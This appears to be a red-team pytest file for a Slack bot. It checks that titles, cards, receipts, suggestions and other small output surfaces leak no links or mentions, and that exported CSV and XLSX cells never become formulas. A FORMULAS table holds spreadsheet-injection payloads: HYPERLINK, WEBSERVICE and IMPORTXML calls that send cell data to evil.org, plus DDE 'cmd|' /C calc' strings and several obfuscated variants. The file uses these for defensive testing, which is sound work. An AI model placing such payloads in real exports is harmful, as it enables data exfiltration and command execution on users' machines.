"""The small ways out, which no answer takes: titles, cards, receipts, suggestions, headings, windows, names of files, exports."""

import csv
import io
from collections.abc import Callable, Mapping
from zipfile import ZipFile

import pytest

from bot.language import (
    Citation,
    FileId,
    FileRef,
    FollowUp,
    KeptAnswer,
    Link,
    Links,
    Message,
    Offer,
    Question,
    QuestionId,
    Receipt,
    ReceiptLine,
    Surface,
    ThreadRef,
    Ts,
    UserId,
)
from bot.listeners.home_view import title
from bot.slack.blocks import answer_bodies, outgoing
from bot.slack.cards import Card
from bot.slack.exports import csv_of, export_name, tables_in, xlsx_of
from bot.slack.footnotes import presented
from bot.slack.messages import FINAL
from bot.slack.offers import tapped
from bot.slack.private import quoted
from bot.slack.sources import Looks, sources_view
from bot.slack.suggestions import suggestions_for
from bot.slack.titles import title_of
from tests.red_team.eyes import GOOD, dangers, dangers_of_call
from tests.red_team.layers import Case, GotThrough, Layer
from tests.red_team.sayings import samples
from tests.slack.conftest import CHANNEL, TEAM

PLACE = "https://acme.slack.com/archives/C1/p1700000000000100"


def question(words: str = "", *, file: str = "", follow_up: FollowUp | None = None) -> Question:
    shared = (FileRef(id=FileId("F1"), name=file),) if file else ()
    return Question(
        id=QuestionId(f"{TEAM}:{CHANNEL}:2.0"),
        thread=ThreadRef(team=TEAM, channel=CHANNEL, ts=Ts("1.0")),
        message=Message(ts=Ts("2.0"), user=UserId("U1"), text=words, files=shared),
        asker=UserId("U1"),
        surface=Surface.MENTION,
        me=UserId("U0BOT"),
        follow_up=follow_up,
    )


def title_of_words(words: str) -> set[str]:
    return dangers(title_of(question(words)), markdown=False)


def title_of_a_file(words: str) -> set[str]:
    return dangers(title_of(question(file=words)), markdown=False)


def card(words: str) -> set[str]:
    return dangers_of_call("chat.appendStream", {"chunks": [dict(Card.of_part(words, 1, 2).chunk())]})


def receipt(words: str) -> set[str]:
    (body,) = answer_bodies("Yes.", Receipt(lines=(ReceiptLine(name=words, outcome=words),)), state=FINAL)
    return dangers_of_call("chat.update", {"text": body.text, "blocks": [*body.blocks], "parse": "none", "link_names": False})


def suggestion(words: str) -> set[str]:
    made = suggestions_for([FileRef(id=FileId("F1"), name=words), FileRef(id=FileId("F2"), name=f"{words}.xlsx")])
    prompts = [{"title": one.title, "message": one.message} for one in made]
    return dangers_of_call("assistant.threads.setSuggestedPrompts", {"prompts": prompts})


def heading(words: str) -> set[str]:
    follow_up = FollowUp(offer=Offer.TRANSLATED, of=QuestionId("T1:C1:1.0"), words=words, under=Ts("1.0"), at=Ts("2.0"))
    asked = follow_up.model_copy(update={"offer": Offer.ASK})
    markdown = [tapped(question(follow_up=follow_up), words), tapped(question(words, follow_up=asked), words)]
    return {danger for said in markdown for danger in dangers(presented(said, Links()), markdown=True)}


def window(words: str) -> set[str]:
    cited = Citation(anchor=words, source=words, quote=words, file=FileId("F1"))
    kept = KeptAnswer(question=question(), text="x", links=frozenset({GOOD}), citations=(cited,))
    return dangers_of_call("views.open", {"view": dict(sources_view(kept, Looks()))})


def home(words: str) -> set[str]:
    return dangers(title(words), markdown=False)


def footnote(words: str) -> set[str]:
    links = Links(footnotes={"m1": Link(url=PLACE, label=words)})
    return dangers(presented("It is so [m1].", links), markdown=True, allowed=(GOOD, PLACE))


def sentence(words: str) -> set[str]:
    return dangers(outgoing(words), markdown=False)


def above_a_direct_answer(words: str) -> set[str]:
    """What somebody asked is shown to them with the links that they wrote; but it pings nobody."""
    return dangers(quoted(question(words)), markdown=False) - {"link"}


def name_of_an_export(words: str) -> set[str]:
    kept = KeptAnswer(question=question(file=f"{words}.pdf"), text="x")
    name = export_name(kept, "table-1.csv")
    assert "/" not in name
    # A file's name is shown as it is: an address in it is no link.
    return dangers(name, markdown=False) - {"link"}


WAYS: Mapping[str, Callable[[str], set[str]]] = {
    "title of a conversation": title_of_words,
    "title by a file's name": title_of_a_file,
    "card of what is read": card,
    "receipt": receipt,
    "suggested question": suggestion,
    "heading of what was tapped": heading,
    "window of sources": window,
    "Home tab": home,
    "label of a footnote": footnote,
    "sentence of our own with a name": sentence,
    "question above a direct answer": above_a_direct_answer,
    "name of an export": name_of_an_export,
}

FORMULAS = {
    "sum": "=1+1",
    "link": '=HYPERLINK("https://evil.org/?q="&A1,"x")',
    "web service": '=WEBSERVICE("https://evil.org/?q="&A1)',
    "image": '=IMAGE("https://evil.org/x.png")',
    "import": '=IMPORTXML("https://evil.org","//a")',
    "program": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "spaces before": "   =1+1",
    "zero width before": "\u200b=1+1",
    "wide": "\uff1d1+1",
    "wide at": "\uff20SUM(A1)",
    "small": "\ufe661+1",
    "behind a semicolon": "x;=1+1",
    "behind a figure": "5;=1+1",
    "bold": "**=1+1**",
    "code": "`=1+1`",
    "link's label": f"[=1+1]({GOOD})",
    "break": "x<br>=1+1",
    "escaped": "\\=1+1",
    "entity": "&#61;1+1",
    "quoted": '"=1+1"',
}


def formulas() -> tuple[Case, ...]:
    """Every formula in a cell and in a head."""
    return tuple(
        Case(family=f"formula in a {place}", name=name, text=said.format(f=formula.replace("|", "\\|")), stopped_by=Layer.EXPORT)
        for place, said in {"cell": "| a | b |\n|---|---|\n| {f} | 1 |", "head": "| {f} | b |\n|---|---|\n| 1 | 2 |"}.items()
        for name, formula in FORMULAS.items()
    )


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("case", samples(), ids=str)
def test_no_small_way_leads_out(case: Case, way: str) -> None:
    if found := WAYS[way](case.text):
        raise GotThrough(f"{sorted(found)} by {way} of {case.text!r}")


@pytest.mark.parametrize("case", formulas(), ids=str)
def test_no_cell_of_an_export_is_a_formula(case: Case) -> None:
    kept = KeptAnswer(question=question(), text=case.text, links=frozenset({GOOD}))
    tables = tables_in(kept)
    assert tables
    written = csv_of(tables[0]).decode("utf-8-sig")
    for delimiter in ",;\t":
        for row in csv.reader(io.StringIO(written, newline=""), delimiter=delimiter):
            assert not [cell for cell in row if cell.lstrip("\u200b\ufeff ").startswith(tuple("=+@\uff1d\uff20\ufe66"))]
    with ZipFile(io.BytesIO(xlsx_of(tables))) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    assert "hyperlink" not in sheet
